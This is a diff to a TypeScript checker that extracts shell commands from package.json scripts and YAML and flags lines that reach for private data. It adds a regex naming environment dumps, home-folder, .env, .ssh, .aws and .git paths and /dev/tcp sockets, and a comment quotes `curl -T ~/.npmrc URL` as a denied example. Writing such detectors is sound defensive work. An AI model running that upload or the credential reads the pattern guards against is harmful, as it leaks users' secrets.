@@ -7,6 +7,7 @@
  * call, so the text `curl -T ~/.npmrc URL` is denied in a package.json script as it is typed.
  */
 import path from 'node:path';
+import { namesCredentialPath } from './findings.js';
 
 /** How the commands of a file that runs later are found in its text. */
 export type RunLaterKind =
@@ -148,11 +149,24 @@ export function runLaterCommands(kind: RunLaterKind, text: string): RunLaterComm
         : kind === 'yaml'
           ? yamlRuns(text)
           : stringLiterals(text, /"((?:[^"\\\n]|\\.)*)"|'((?:[^'\\\n]|\\.)*)'/g);
-  const shell = lines.filter((line) => /\s/.test(line.trim()));
+  // Build files upload their own output (coverage, releases, images) to hosts the user
+  // never names in a request, so only lines that touch private data or open a socket count.
+  const shell = lines.filter((line) => /\s/.test(line.trim()) && touchesPrivateData(line));
   if (shell.length > 0) {
     commands.push({ command: shell.slice(0, MAX_LINES).join('\n'), code: false });
   }
   return commands;
+}
+
+/**
+ * Names of private data in a command line: the environment dumped by `env` or `printenv`,
+ * the home folder, `.env`, `.ssh`, `.aws`, `.git`, and shell sockets under `/dev/tcp`.
+ */
+const PRIVATE_DATA =
+  /(?:^|[\s|;&(])(?:env|printenv)(?:\s*[|>;&)]|\s*$)|\$\{?HOME\b|~\/|\/proc\/\w+\/environ|(?:^|[/\s'"(:=@])\.env\b(?!\.example|\.sample|\.template)|\.ssh\b|\.aws\b|\.gnupg\b|\.git(?:\/|\b(?!hub|lab|ignore|attributes|keep|modules))|\/dev\/(?:tcp|udp)\//;
+
+function touchesPrivateData(line: string): boolean {
+  return PRIVATE_DATA.test(line) || namesCredentialPath(line);
 }
 
 /** At most this many command lines of one file are judged, to bound the work per call. */
